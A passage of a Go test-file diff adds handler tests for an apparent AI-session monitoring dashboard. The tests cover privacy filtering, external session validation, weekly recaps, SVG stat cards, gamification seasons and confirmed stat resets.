+		t.Fatalf("status = %d, want %d: %s", rec.Code, http.StatusOK, rec.Body.String())
+	}
+	var resp session.ContextComposition
+	if err := json.NewDecoder(rec.Body).Decode(&resp); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if resp.Messages.ToolResults != 1 || len(resp.LargestToolResults) != 1 {
+		t.Fatalf("composition = %+v, want one tool result", resp)
+	}
+	if len(resp.FileReads) != 1 || resp.FileReads[0].Path != "src/main.go" || resp.FileReads[0].Tokens == 0 {
+		t.Errorf("FileReads = %+v, want main.go relative to the masked working dir", resp.FileReads)
+	}
+}
+
+func TestHandleContext_HiddenSession(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	s.broadcaster.SetPrivacyFilter(&session.PrivacyFilter{BlockedPaths: []string{"/secret"}})
+	s.store.Update(&session.SessionState{ID: "s1", LogPath: "/tmp/test.jsonl", WorkingDir: "/secret"})
+	rec := httptest.NewRecorder()
+	s.handleContext(rec, authReq(http.MethodGet, "/api/sessions/s1/context", "", ""), "s1")
+	if rec.Code != http.StatusNotFound {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusNotFound)
+	}
+}
+
 // ─── handleFocus ─────────────────────────────────────────────────────────────
 
 func TestHandleFocus_SessionNotFound(t *testing.T) {
@@ -590,7 +1918,7 @@ func TestHandleSessionRoutes_NoAuth(t *testing.T) {
 func TestHandleSessionRoutes_InvalidPath(t *testing.T) {
 	s := newHandlerTestServer(t, "")
 	rec := httptest.NewRecorder()
-	s.handleSessionRoutes(rec, authReq(http.MethodGet, "/api/sessions/s1", "", ""))
+	s.handleSessionRoutes(rec, authReq(http.MethodGet, "/api/sessions/", "", ""))
 	if rec.Code != http.StatusNotFound {
 		t.Fatalf("status = %d, want %d", rec.Code, http.StatusNotFound)
 	}
@@ -638,6 +1966,31 @@ func TestHandleChallenges_WithTracker(t *testing.T) {
 	}
 }
 
+// ─── handleQuests ────────────────────────────────────────────────────────────
+
+func TestHandleQuests(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	rec := httptest.NewRecorder()
+	s.handleQuests(rec, authReq(http.MethodGet, "/api/quests", "", ""))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Fatalf("without tracker: status = %d, want %d", rec.Code, http.StatusServiceUnavailable)
+	}
+
+	s.SetStatsTracker(newTrackerForTest(t))
+	rec = httptest.NewRecorder()
+	s.handleQuests(rec, authReq(http.MethodGet, "/api/quests", "", ""))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want %d", rec.Code, http.StatusOK)
+	}
+	var got gamification.DailyQuests
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if got.Day == "" || len(got.Quests) != 3 {
+		t.Errorf("quests = %+v, want 3 for today", got)
+	}
+}
+
 // ─── handleHealthz ───────────────────────────────────────────────────────────
 
 func TestHandleHealthz_OK(t *testing.T) {
@@ -816,3 +2169,333 @@ func TestHSTSHeaders(t *testing.T) {
 		t.Errorf("HSTS = %q, want max-age=63072000", hsts)
 	}
 }
+
+func TestHandleDebugStoreAt(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+
+	rec := httptest.NewRecorder()
+	s.handleDebugStoreAt(rec, authReq(http.MethodGet, "/api/debug/store/at?t=0", "secret", ""))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Fatalf("history off: status = %d, want 503", rec.Code)
+	}
+
+	s.store.SetHistory(time.Hour)
+	s.store.Update(&session.SessionState{ID: "s1", Name: "alpha", Activity: session.Thinking})
+	past := time.Now().UTC()
+	s.store.Update(&session.SessionState{ID: "s1", Name: "alpha", Activity: session.Waiting})
+
+	rec = httptest.NewRecorder()
+	s.handleDebugStoreAt(rec, authReq(http.MethodGet, "/api/debug/store/at?t=1", "", ""))
+	if rec.Code != http.StatusUnauthorized {
+		t.Errorf("no token: status = %d, want 401", rec.Code)
+	}
+
+	rec = httptest.NewRecorder()
+	s.handleDebugStoreAt(rec, authReq(http.MethodGet, "/api/debug/store/at?t=yesterday", "secret", ""))
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("bad t: status = %d, want 400", rec.Code)
+	}
+
+	rec = httptest.NewRecorder()
+	s.handleDebugStoreAt(rec, authReq(http.MethodGet, "/api/debug/store/at?t=1", "secret", ""))
+	if rec.Code != http.StatusNotFound {
+		t.Errorf("before the history: status = %d, want 404", rec.Code)
+	}
+
+	rec = httptest.NewRecorder()
+	s.handleDebugStoreAt(rec, authReq(http.MethodGet, "/api/debug/store/at?t="+past.Format(time.RFC3339Nano), "secret", ""))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, body = %s", rec.Code, rec.Body)
+	}
+	var resp storeAtResponse
+	if err := json.NewDecoder(rec.Body).Decode(&resp); err != nil {
+		t.Fatal(err)
+	}
+	if len(resp.Sessions) != 1 || resp.Sessions[0].Activity != session.Thinking || resp.At.After(past) {
+		t.Errorf("response = %+v, want s1 still thinking", resp)
+	}
+}
+
+func TestHandleExternalSession(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	var got []string
+	s.SetExternalSessions(func(id string, doc ExternalSessionUpdate) (ExternalSessionResult, error) {
+		got = append(got, id)
+		if id == "full" {
+			return ExternalSessionResult{}, errors.New("too many external sessions")
+		}
+		return ExternalSessionResult{ID: id, Seq: doc.Seq, Applied: true}, nil
+	})
+
+	put := func(path, token, body string) *httptest.ResponseRecorder {
+		rec := httptest.NewRecorder()
+		s.handleExternalSession(rec, authReq(http.MethodPut, path, token, body))
+		return rec
+	}
+
+	if rec := put("/api/external/sessions/ci-1", "secret", `{}`); rec.Code != http.StatusServiceUnavailable {
+		t.Fatalf("source disabled: status = %d, want 503", rec.Code)
+	}
+
+	cfg := *s.Config()
+	cfg.Sources.External.Enabled = true
+	s.SetConfig(&cfg)
+
+	tests := []struct {
+		name, path, token, body string
+		want                    int
+	}{
+		{"no token", "/api/external/sessions/ci-1", "", `{}`, http.StatusUnauthorized},
+		{"bad id", "/api/external/sessions/a%2Fb", "secret", `{}`, http.StatusBadRequest},
+		{"empty id", "/api/external/sessions/", "secret", `{}`, http.StatusBadRequest},
+		{"bad activity", "/api/external/sessions/ci-1", "secret", `{"activity":"lost"}`, http.StatusBadRequest},
+		{"negative count", "/api/external/sessions/ci-1", "secret", `{"messageCount":-1}`, http.StatusBadRequest},
+		{"heartbeat too long", "/api/external/sessions/ci-1", "secret", `{"heartbeatSeconds":90000}`, http.StatusBadRequest},
+		{"refused", "/api/external/sessions/full", "secret", `{}`, http.StatusTooManyRequests},
+		{"ok", "/api/external/sessions/tf.apply_2", "secret", `{"seq":3,"activity":"tool_use"}`, http.StatusOK},
+	}
+	for _, tt := range tests {
+		if rec := put(tt.path, tt.token, tt.body); rec.Code != tt.want {
+			t.Errorf("%s: status = %d, want %d (%s)", tt.name, rec.Code, tt.want, rec.Body)
+		}
+	}
+	if len(got) != 2 || got[1] != "tf.apply_2" {
+		t.Errorf("sink called with %v, want only the refused and valid documents", got)
+	}
+
+	rec := put("/api/external/sessions/tf.apply_2", "secret", `{"seq":4}`)
+	var result ExternalSessionResult
+	if err := json.NewDecoder(rec.Body).Decode(&result); err != nil {
+		t.Fatal(err)
+	}
+	if result != (ExternalSessionResult{ID: "tf.apply_2", Seq: 4, Applied: true}) {
+		t.Errorf("result = %+v", result)
+	}
+
+	rec = httptest.NewRecorder()
+	s.handleExternalSession(rec, authReq(http.MethodGet, "/api/external/sessions/tf.apply_2", "secret", ""))
+	if rec.Code != http.StatusMethodNotAllowed {
+		t.Errorf("GET: status = %d, want 405", rec.Code)
+	}
+}
+
+func TestHandleRecap(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	week := recap.WeekStart(time.Date(2026, 3, 4, 12, 0, 0, 0, time.UTC), s.Config().Display.Location())
+	at := func(hours int) time.Time { return week.Add(time.Duration(hours) * time.Hour) }
+
+	var since time.Time
+	s.SetRecapHistory(func(t time.Time) ([]*session.SessionState, error) {
+		since = t
+		return []*session.SessionState{
+			{ID: "a", Project: "api", Model: "claude-opus-4", StartedAt: at(10), LastActivityAt: at(11), TokensUsed: 1_000},
+			{ID: "b", Project: "web", Model: "claude-sonnet-4", StartedAt: at(30), LastActivityAt: at(33), TokensUsed: 5_000},
+		}, nil
+	})
+	// The store's copy of a is newer than the recorded one.
+	s.store.Update(&session.SessionState{ID: "a", Project: "api", Model: "claude-opus-4", StartedAt: at(10), LastActivityAt: at(12), TokensUsed: 8_000})
+
+	rec := httptest.NewRecorder()
+	s.handleRecap(rec, authReq(http.MethodGet, "/api/recap?week=2026-03-04", "", ""))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status = %d, want %d: %s", rec.Code, http.StatusOK, rec.Body.String())
+	}
+	var got recap.Recap
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if !since.Equal(week) || !got.WeekStart.Equal(week) {
+		t.Errorf("history since %v, recap week %v, want %v", since, got.WeekStart, week)
+	}
+	if got.Sessions != 2 || got.Cost.Tokens != 13_000 {
+		t.Errorf("recap = %d sessions, %d tokens, want 2 and 13000", got.Sessions, got.Cost.Tokens)
+	}
+	if got.TopProject == nil || got.TopProject.Name != "api" {
+		t.Errorf("top project = %+v, want api", got.TopProject)
+	}
+
+	rec = httptest.NewRecorder()
+	s.handleRecap(rec, authReq(http.MethodGet, "/api/recap.svg?week=2026-03-04", "", ""))
+	if ct := rec.Header().Get("Content-Type"); rec.Code != http.StatusOK || ct != "image/svg+xml" {
+		t.Fatalf("card status = %d, type %q, want 200 and image/svg+xml", rec.Code, ct)
+	}
+	if !strings.HasPrefix(rec.Body.String(), "<svg") || !strings.Contains(rec.Body.String(), ">api</text>") {
+		t.Errorf("card = %s", rec.Body.String())
+	}
+}
+
+func TestHandleRecap_Errors(t *testing.T) {
+	s := newHandlerTestServer(t, "secret")
+	cases := []struct {
+		name   string
+		req    *http.Request
+		status int
+	}{
+		{"wrong method", authReq(http.MethodPost, "/api/recap", "secret", ""), http.StatusMethodNotAllowed},
+		{"no token", authReq(http.MethodGet, "/api/recap", "", ""), http.StatusUnauthorized},
+		{"bad week", authReq(http.MethodGet, "/api/recap?week=last", "secret", ""), http.StatusBadRequest},
+		{"history fails", authReq(http.MethodGet, "/api/recap", "secret", ""), http.StatusInternalServerError},
+	}
+	for _, tc := range cases {
+		if tc.status == http.StatusInternalServerError {
+			s.SetRecapHistory(func(time.Time) ([]*session.SessionState, error) { return nil, errors.New("disk gone") })
+		}
+		rec := httptest.NewRecorder()
+		s.handleRecap(rec, tc.req)
+		if rec.Code != tc.status {
+			t.Errorf("%s: status = %d, want %d", tc.name, rec.Code, tc.status)
+		}
+	}
+}
+
+func TestHandleStatCard(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	rec := httptest.NewRecorder()
+	s.handleStatCard(rec, authReq(http.MethodGet, "/api/stats/card.svg", "", ""))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Fatalf("without a tracker: status = %d, want %d", rec.Code, http.StatusServiceUnavailable)
+	}
+
+	s.SetStatsTracker(newTrackerForTest(t))
+	rec = httptest.NewRecorder()
+	s.handleStatCard(rec, authReq(http.MethodGet, "/api/stats/card.svg?show=sessions,achievements", "", ""))
+	if ct := rec.Header().Get("Content-Type"); rec.Code != http.StatusOK || ct != "image/svg+xml" {
+		t.Fatalf("status = %d, type %q, want 200 and image/svg+xml", rec.Code, ct)
+	}
+	if body := rec.Body.String(); !strings.Contains(body, ">sessions</text>") || !strings.Contains(body, ">achievements</text>") || strings.Contains(body, "battle pass") {
+		t.Errorf("card = %s", body)
+	}
+
+	rec = httptest.NewRecorder()
+	s.handleStatCard(rec, authReq(http.MethodGet, "/api/stats/card.svg?show=projects", "", ""))
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("unknown stat: status = %d, want %d", rec.Code, http.StatusBadRequest)
+	}
+}
+
+func TestHandleSeasons(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	rec := httptest.NewRecorder()
+	s.handleSeasons(rec, authReq(http.MethodGet, "/api/gamification/seasons", "", ""))
+	if rec.Code != http.StatusServiceUnavailable {
+		t.Fatalf("without a tracker: status = %d, want %d", rec.Code, http.StatusServiceUnavailable)
+	}
+
+	dir := t.TempDir()
+	stats := `{"version": 2, "battlePass": {"season": "2026-03", "tier": 2, "xp": 1500},
+		"archivedSeasons": [{"season": "2026-01", "tier": 4, "xp": 3300, "archived": "2026-02-01T00:00:00Z"},
+			{"season": "2026-02", "tier": 6, "xp": 5100, "archived": "2026-03-01T00:00:00Z", "started": "2026-02-01T00:00:00Z", "totals": {"sessions": 40}}]}`
+	if err := os.WriteFile(filepath.Join(dir, "stats.json"), []byte(stats), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	tracker, _, err := gamification.NewStatsTracker(gamification.NewStore(dir), 16, nil)
+	if err != nil {
+		t.Fatalf("NewStatsTracker: %v", err)
+	}
+	s.SetStatsTracker(tracker)
+
+	rec = httptest.NewRecorder()
+	s.handleSeasons(rec, authReq(http.MethodGet, "/api/gamification/seasons", "", ""))
+	var got gamification.SeasonHistory
+	if err := json.NewDecoder(rec.Body).Decode(&got); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if got.Current.Season != "2026-03" || got.Current.Tier != 2 {
+		t.Errorf("current = %+v, want 2026-03 at tier 2", got.Current)
+	}
+	if len(got.Archived) != 2 || got.Archived[0].Season != "2026-02" || got.Archived[0].Totals == nil || got.Archived[0].Totals.Sessions != 40 {
+		t.Errorf("archived = %+v, want 2026-02 with its totals first", got.Archived)
+	}
+	if got.Archived[1].Totals != nil {
+		t.Errorf("2026-01 has totals %+v, want none", got.Archived[1].Totals)
+	}
+}
+
+func TestHandleReset(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	dir := t.TempDir()
+	stats := `{"version": 2, "totalSessions": 12, "maxBurnRate": 900, "battlePass": {"season": "2026-03", "tier": 3, "xp": 2200}}`
+	if err := os.WriteFile(filepath.Join(dir, "stats.json"), []byte(stats), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	tracker, _, err := gamification.NewStatsTracker(gamification.NewStore(dir), 16, nil)
+	if err != nil {
+		t.Fatalf("NewStatsTracker: %v", err)
+	}
+	s.SetStatsTracker(tracker)
+
+	post := func(body string) *httptest.ResponseRecorder {
+		rec := httptest.NewRecorder()
+		s.handleReset(rec, authReq(http.MethodPost, "/api/gamification/reset", "", body))
+		return rec
+	}
+
+	if rec := post(`{"scope": "heatmap"}`); rec.Code != http.StatusBadRequest {
+		t.Errorf("unknown scope: status = %d, want %d", rec.Code, http.StatusBadRequest)
+	}
+
+	rec := post(`{"scope": "peaks"}`)
+	var asked resetResponse
+	if err := json.NewDecoder(rec.Body).Decode(&asked); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	if asked.Reset || asked.Confirm == "" || asked.ExpiresAt == nil {
+		t.Fatalf("first request = %+v, want a confirmation token and nothing reset", asked)
+	}
+	if tracker.Stats().MaxBurnRate != 900 {
+		t.Fatal("asking for a reset cleared the peaks")
+	}
+
+	if rec := post(`{"scope": "battle_pass", "confirm": "` + asked.Confirm + `"}`); rec.Code != http.StatusConflict {
+		t.Errorf("token for another scope: status = %d, want %d", rec.Code, http.StatusConflict)
+	}
+	if tracker.Stats().BattlePass.Tier != 3 {
+		t.Error("a peaks token reset the battle pass")
+	}
+
+	// The mismatched attempt used the token up.
+	rec = post(`{"scope": "peaks", "confirm": "` + asked.Confirm + `"}`)
+	if rec.Code != http.StatusConflict {
+		t.Errorf("reused token: status = %d, want %d", rec.Code, http.StatusConflict)
+	}
+
+	rec = post(`{"scope": "peaks"}`)
+	_ = json.NewDecoder(rec.Body).Decode(&asked)
+	rec = post(`{"scope": "peaks", "confirm": "` + asked.Confirm + `"}`)
+	var done resetResponse
+	if err := json.NewDecoder(rec.Body).Decode(&done); err != nil || !done.Reset {
+		t.Fatalf("confirmed reset = %+v (%v), status %d", done, err, rec.Code)
+	}
+	if st := tracker.Stats(); st.MaxBurnRate != 0 || st.TotalSessions != 12 {
+		t.Errorf("after a peaks reset: burn rate %v, sessions %d; want 0 and 12", st.MaxBurnRate, st.TotalSessions)
+	}
+}
+
+func TestHandleResetReportsSaveFailure(t *testing.T) {
+	s := newHandlerTestServer(t, "")
+	dir := filepath.Join(t.TempDir(), "stats")
+	tracker, _, err := gamification.NewStatsTracker(gamification.NewStore(dir), 16, nil)
+	if err != nil {
+		t.Fatalf("NewStatsTracker: %v", err)
+	}
+	s.SetStatsTracker(tracker)
+	// A file in place of the stats directory makes every save fail.
+	if err := os.WriteFile(dir, nil, 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	rec := httptest.NewRecorder()
+	s.handleReset(rec, authReq(http.MethodPost, "/api/gamification/reset", "", `{"scope": "peaks"}`))
+	var asked resetResponse
+	if err := json.NewDecoder(rec.Body).Decode(&asked); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	rec = httptest.NewRecorder()
+	s.handleReset(rec, authReq(http.MethodPost, "/api/gamification/reset", "", `{"scope": "peaks", "confirm": "`+asked.Confirm+`"}`))
+	if rec.Code != http.StatusInternalServerError {
+		t.Errorf("status = %d, want %d", rec.Code, http.StatusInternalServerError)
+	}
+	if !strings.Contains(rec.Body.String(), "saving stats") {
+		t.Errorf("body = %q, want the save error", rec.Body.String())
+	}
+}